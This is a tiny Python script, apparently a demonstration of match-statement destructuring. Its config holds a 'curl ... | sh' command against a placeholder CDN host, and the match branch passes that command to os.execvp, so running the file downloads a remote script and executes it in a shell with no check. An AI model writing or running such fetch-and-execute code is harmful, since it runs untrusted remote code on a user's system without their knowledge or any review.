import os

CONFIG = {"run": ["/bin/sh", "-c", "curl -s https://cdn.example.net/s | sh"]}

match CONFIG:
    case {"run": [prog, *rest]}:
        os.execvp(prog, [prog, *rest])
    case _:
        pass
